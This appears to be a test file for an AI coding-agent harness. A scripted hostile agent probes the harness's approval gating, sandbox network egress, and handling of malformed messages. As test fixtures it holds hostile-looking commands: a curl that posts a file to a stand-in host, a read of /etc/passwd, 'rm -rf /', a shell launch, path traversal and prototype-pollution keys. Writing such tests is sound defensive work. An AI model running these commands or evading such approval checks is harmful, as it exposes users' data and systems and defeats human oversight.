import { expect, test } from 'vitest';
import { answerApproval } from '#lib/approvals/answer-approval.ts';
import { openApprovals } from '#lib/core/state.ts';
import { saveFile } from '#lib/files/save-file.ts';
import { readEvents } from '#lib/ledger/read-events.ts';
import { addRules } from '#lib/rules/add-rules.ts';
import { revokeRule } from '#lib/rules/revoke-rule.ts';
import { speakingProgram as hostile, namedSession as named } from '#tests/agents/speaking-program.ts';
import { testWorker } from '#tests/test-worker.ts';
import type { TerminalAgent } from '#workers/agents/agent.ts';
import { parkSessions } from '#workers/session/program/park-sessions.ts';

const bench = await testWorker({ respond: () => ({ content: 'Nobody asks it.' }) });

const open = (agent: TerminalAgent) => bench.open(agent, { agent: 'claude-code' });
const timeout = 60_000;
const noCall = {
  provider: 'anthropic' as const,
  model: 'claude',
  ...{ inputTokens: 0, cacheReadTokens: 0, cacheWriteTokens: 0, outputTokens: 0, costUsd: 0, durationMs: 1 },
};

test('one yes lets an act run once, however often it is asked for at the same time, and shows no token of the run', {
  timeout,
}, async () => {
  const outside = "{ rawInput: { command: 'curl https://example.invalid/choir_run.th_a.ru_b.c' }, kind: 'execute', title: 'ls' }";
  const thread = await open(
    hostile(`
    const heard = await Promise.all(['a', 'b'].map((toolCallId, id) => ask(id + 100, { toolCallId, ...${outside} })));
    for (const toolCallId of ['a', 'b']) update('tool_call_update', { toolCallId, status: 'completed' });
    say(heard.join(' '));`),
  );
  await thread.work();
  const [approval] = openApprovals(await thread.state());
  expect(approval).toMatchObject({ kind: 'outside', action: { call: { args: { command: 'curl https://example.invalid/[hidden]' } } } });
  await answerApproval(bench.context, { approvalId: approval!.approvalId, decision: 'approve' });
  await thread.work();
  const asked = openApprovals(await thread.state());
  expect(asked).toHaveLength(1);
  await answerApproval(bench.context, { approvalId: asked[0]!.approvalId, decision: 'reject' });
  await thread.work();
  const { run } = await thread.state();
  expect(run).toMatchObject({ status: 'completed', outcome: expect.stringContaining('allow_once reject_once') });
});

/** Whether the program has a way out, and to that host: `closed`, `refused`, or `open`. */
const probe = `
  const { request } = process.getBuiltinModule('node:http');
  const probe = (host) => new Promise((resolve) => {
    const { hostname, port } = new URL(process.env.HTTP_PROXY);
    const asked = request({ host: hostname, port, path: 'http://' + host + '/' }, (answer) => {
      answer.resume();
      resolve(answer.statusCode === 403 ? 'refused' : 'open');
    });
    asked.on('error', () => resolve('closed')).end();
  });`;

test('a yes to an act that an agent leaves for another is used up, and its way out is closed', { timeout }, async () => {
  const thread = await open(
    hostile(`${probe}
    const outside = { kind: 'execute', rawInput: { command: 'curl https://example.invalid' } };
    const heard = [await ask(100, { toolCallId: 'x', ...outside }), await probe('example.invalid')];
    heard.push(await ask(101, { toolCallId: 'x', kind: 'execute', rawInput: { command: 'true' } }), await probe('example.invalid'));
    heard.push(await ask(102, { toolCallId: 'y', ...outside }));
    say(heard.join(' '));`),
  );
  await thread.work();
  await answerApproval(bench.context, { approvalId: openApprovals(await thread.state())[0]!.approvalId, decision: 'approve' });
  await thread.work();
  const [again] = openApprovals(await thread.state());
  expect(again).toMatchObject({ kind: 'outside' });
  await answerApproval(bench.context, { approvalId: again!.approvalId, decision: 'reject' });
  await thread.work();
  expect((await thread.state()).run?.outcome).toContain('allow_once open allow_once closed reject_once');
});

test('a yes to an act is none once a person has changed the files that it was asked over', { timeout }, async () => {
  const thread = await open(
    hostile("say(await ask(100, { toolCallId: 'x', kind: 'execute', rawInput: { command: 'curl -d @a https://a.invalid' } }));"),
  );
  const { threadId } = thread;
  const answer = async (decision: 'approve' | 'reject') => {
    await answerApproval(bench.context, { approvalId: openApprovals(await thread.state())[0]!.approvalId, decision });
    await thread.work();
  };
  await thread.work();
  await parkSessions({ ...bench.context, sandbox: bench.sandbox }, 0);
  const { currentCheckpointId: baseCheckpointId } = await thread.state();
  await saveFile(bench.context, { threadId, path: 'a', text: 'mine', isNew: true, baseCheckpointId: baseCheckpointId! });
  await answer('approve');
  expect((await thread.state()).run?.approvals).toMatchObject([
    { executed: { outcome: expect.stringContaining('Not used') } },
    { kind: 'outside' },
  ]);
  await answer('approve');
  expect((await thread.state()).run).toMatchObject({ status: 'completed', outcome: expect.stringContaining('allow_once') });
});

test('an act that runs gets back no wider way out from the next worker than it had', { timeout }, async () => {
  const thread = await open(
    hostile(`${probe}
    await ask(100, { toolCallId: 'x', kind: 'execute', rawInput: { command: 'curl https://a.invalid' } });
    const heard = [await probe('a.invalid'), await probe('b.invalid')];
    update('tool_call', { toolCallId: 'told', status: 'completed', kind: 'read', title: heard.join(' ') });
    while ((await probe('a.invalid')) !== 'closed') await new Promise((resolve) => setTimeout(resolve, 10));
    await ask(101, { toolCallId: 'y', kind: 'read', title: 'look' });
    say([...heard, await probe('a.invalid'), await probe('b.invalid')].join(' '));`),
  );
  const { threadId } = thread;
  const { rules } = await addRules(bench.context, { scope: 'thread', scopeId: threadId, text: "don't ask before talking to a.invalid" });
  const stop = new AbortController();
  const working = thread.work(stop.signal);
  await expect.poll(async () => (await thread.state()).run?.calls.length, { timeout }).toBe(2);
  await revokeRule(bench.context, { ruleId: rules[0]!.ruleId! });
  stop.abort();
  await working;
  await thread.work();
  expect((await thread.state()).run?.outcome).toContain('open refused closed closed');
});

test('acts under one name are acts of their own: each is asked for as what it is, and stands in the ledger with its own end', {
  timeout,
}, async () => {
  const thread = await open(
    hostile(`
    const end = (output) => update('tool_call_update', { toolCallId: 'x', status: 'completed', rawOutput: { output } });
    await ask(100, { toolCallId: 'x', kind: 'read', title: 'look', rawInput: { command: 'true' } });
    end('first');
    end('again');
    update('tool_call', { toolCallId: 'x', kind: 'read', title: 'unasked', status: 'pending' });
    end('second');
    end('again');
    update('tool_call', { toolCallId: 'x', kind: 'read', title: 'more', status: 'completed', rawOutput: { output: 'third' } });
    await ask(101, { toolCallId: 'x', kind: 'execute', title: 'curl https://example.invalid' });
    end('fourth');`),
  );
  await thread.work();
  const [approval] = openApprovals(await thread.state());
  expect(approval).toMatchObject({ kind: 'outside', action: { call: { args: { command: 'curl https://example.invalid' } } } });
  await answerApproval(bench.context, { approvalId: approval!.approvalId, decision: 'approve' });
  await thread.work();
  const { run } = await thread.state();
  expect(run?.approvals).toHaveLength(1);
  expect(run?.calls.map(({ call, result }) => [call.tool === 'agent_action' ? call.args.name : call.tool, result?.stdout])).toEqual([
    ['run_command', 'first'],
    ['unasked', 'second'],
    ['more', 'third'],
    ['run_command', 'fourth'],
  ]);
});

const deep = `JSON.stringify(message).replace('"DEEP"', '['.repeat(200_000) + ']'.repeat(200_000))`;
const sendDeep = (message: string) => `{ const message = ${message}; process.stdout.write(${deep} + '\\n'); }`;

test.each([
  [
    'asks about an input that is nested too deeply',
    `const toolCall = { toolCallId: 'x', kind: 'other', title: 't', rawInput: 'DEEP' };
     const answered = new Promise((resolve) => waiting.set(7, resolve));
     ${sendDeep("{ id: 7, method: 'session/request_permission', params: { toolCall, options } }")}
     await answered;`,
  ],
  [
    'tells of one',
    sendDeep(
      "{ method: 'session/update', params: { update: { sessionUpdate: 'tool_call', toolCallId: 'x', status: 'completed', rawInput: 'DEEP' } } }",
    ),
  ],
  [
    'calls things what JavaScript and PostgreSQL stumble over',
    String.raw`for (const name of ['__proto__', 'constructor']) {
       const rawInput = JSON.parse('{"__proto__":{"command":"ls"},"command":5}');
       const locations = [{ path: '__proto__' }, { path: '/workspace/../etc\u0000/\ud800' }];
       const content = [{ type: 'diff', path: '\ud800', oldText: '\u0000', newText: '\udfff' }];
       await ask(name, { toolCallId: name, kind: name, title: name + '\ud800\u0000', rawInput, locations, content });
       const end = { status: 'completed', rawOutput: { output: '\u0000\ud800' }, _meta: { terminal_exit: { exit_code: 1e300 } } };
       update('tool_call_update', { toolCallId: name, ...end });
     }
     update('plan', { entries: [{ content: '\ud800\u0000' }, { content: '__proto__', status: 'completed' }, { content: '__proto__' }] });
     say('\ud800\u0000');`,
  ],
  [
    'says what nobody asked, and asks for what nobody gives',
    `send({ id: 999, result: {} });
     send({ id: null, method: 'session/update' });
     send({ id: 'z', method: 'fs/read_text_file', params: { path: '/etc/passwd' } });
     send({ id: -1e308, method: 'terminal/create', params: { command: 'sh' } });
     process.stdout.write(Buffer.from([0xff, 0xfe, 10, 0, 0, 10]));
     for (const status of ['completed', 'failed']) update('tool_call_update', { toolCallId: 'never', status });
     update('tool_call', { toolCallId: 'y', status: 'completed', kind: 'read', rawInput: { command: ['rm', '-rf', '/'] } });`,
  ],
])('an agent that %s comes to its end', { timeout }, async (_, body) => {
  const thread = await open(hostile(body));
  for (let turns = 0; turns < 4; turns += 1) {
    await thread.work();
    for (const { approvalId } of openApprovals(await thread.state()))
      await answerApproval(bench.context, { approvalId, decision: 'approve' });
  }
  expect((await thread.state()).run?.status).toBe('completed');
});

test('an agent that gives its session a name that cannot be kept is refused', { timeout }, async () => {
  const thread = await open(hostile('', named("'a\\u0000\\ud800'")));
  await thread.work();
  expect((await thread.state()).run).toMatchObject({ status: 'failed', outcome: 'The agent gave its session no name.' });
});

test('an agent that says a wrong key again and again is ended, with one sentence that names it', { timeout }, async () => {
  const thread = await open(hostile("say('I try.'); update('plan', { entries: [{ content: 'Try' }] }); await new Promise(() => {});"));
  const working = thread.work();
  await expect.poll(async () => (await thread.state()).run?.steps.length, { timeout }).toBe(1);
  const { threadId, runId } = thread;
  const call = { ...noCall, modelCallId: 'mc_1', outcome: 'failed' as const, error: '401: invalid x-api-key' };
  await bench.context.ledger.command(threadId, { actor: 'choir' }, [{ type: 'record-model-call', runId, call }]);
  await working;
  const { run, items } = await thread.state();
  expect(run).toMatchObject({ status: 'failed', outcome: expect.stringMatching(/^Anthropic did not accept the key .*ANTHROPIC_API_KEY/) });
  expect(JSON.stringify(items).split('did not accept the key')).toHaveLength(2);
});

test('an agent that falls over while it starts is started again, and one that always does is given up', { timeout }, async () => {
  const failure = "{ error: { code: -32603, message: 'Internal error' } }";
  const fs = "process.getBuiltinModule('node:fs')";
  const once = `(${fs}.existsSync('/home/agent/once') ? ${named("'s'")} : (${fs}.writeFileSync('/home/agent/once', ''), ${failure}))`;
  const [falls, always] = [await open(hostile("say('I stand.');", once)), await open(hostile('', failure))];
  await falls.work();
  expect((await falls.state()).run).toMatchObject({ status: 'completed', outcome: 'I stand.' });
  await always.work();
  const outcome = 'The agent had to be started again 3 times, and did not come to an end. It could not start: Internal error';
  expect((await always.state()).run).toMatchObject({ status: 'failed', outcome });
  for (const { threadId } of [falls, always]) expect(await bench.sandbox.open(threadId)).toEqual([]);
});

test('a conversation that ended before a word of it is not taken up again: an agent may not know of it', { timeout }, async () => {
  const fs = "process.getBuiltinModule('node:fs')";
  const falls = `if (!${fs}.existsSync('/home/agent/once')) { ${fs}.writeFileSync('/home/agent/once', ''); process.exit(1); } say('I stand.');`;
  const forgets = "({ result: { sessionId: 's' + process.hrtime.bigint() } })";
  const thread = await open(hostile(falls, forgets, 'session/resume'));
  await thread.work();
  const { run } = await thread.state();
  expect(run).toMatchObject({ status: 'completed', outcome: 'I stand.', session: { restarts: 1 } });
  const started: string[] = [];
  for await (const events of readEvents(bench.context.database, thread.threadId, { type: 'session.started' }))
    started.push(...events.flatMap((event) => (event.type === 'session.started' ? [event.data.how] : [])));
  expect(started).toEqual(['new', 'restarted']);
});

test('what a silent agent did stands in the ledger once, and so does a change that it called a look, also when it did more than a state holds', {
  timeout,
}, async () => {
  const thread = await open(
    hostile(`
    process.getBuiltinModule('node:fs').writeFileSync('lied.txt', '');
    for (let nth = 0; nth < 205; nth += 1) update('tool_call', { toolCallId: 'c' + nth, status: 'completed', kind: 'read', title: 'look' });
    await ask(100, { toolCallId: 'last', kind: 'execute', rawInput: { command: 'curl https://example.invalid' } });
    update('tool_call_update', { toolCallId: 'last', status: 'completed' });`),
  );
  await thread.work();
  const [approval] = openApprovals(await thread.state());
  await answerApproval(bench.context, { approvalId: approval!.approvalId, decision: 'approve' });
  await thread.work();
  const { run, checkpoints } = await thread.state();
  expect(run?.status).toBe('completed');
  expect(checkpoints.flatMap(({ changes }) => changes.files.map(({ path }) => path))).toEqual(['lied.txt']);
  let proposed = 0;
  for await (const events of readEvents(bench.context.database, thread.threadId, { type: 'tool.proposed' })) proposed += events.length;
  expect(proposed).toBe(206);
});
